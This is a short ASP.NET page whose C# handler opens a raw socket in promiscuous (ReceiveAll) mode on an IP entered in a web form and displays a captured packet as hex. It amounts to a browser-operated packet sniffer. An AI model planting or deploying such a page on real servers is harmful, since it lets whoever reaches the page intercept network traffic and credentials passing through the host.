<%@ Page Language="C#" %>
<%@ Import Namespace="System.Net" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
    protected void Start_Click(object sender, EventArgs e)
    {
        Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.IP);
        s.Bind(new IPEndPoint(IPAddress.Parse(ip.Text), 0));
        s.SetSocketOption(SocketOptionLevel.IP, SocketOptionName.HeaderIncluded, true);
        s.IOControl(IOControlCode.ReceiveAll, BitConverter.GetBytes(1), null);
        byte[] buf = new byte[65535];
        int n = s.Receive(buf);
        outp.Text = BitConverter.ToString(buf, 0, n);
    }
</script>
<html><body><form runat="server"><asp:TextBox ID="ip" runat="server" /><asp:Button ID="b" runat="server" OnClick="Start_Click" Text="Start" /><asp:Literal ID="outp" runat="server" /></form></body></html>
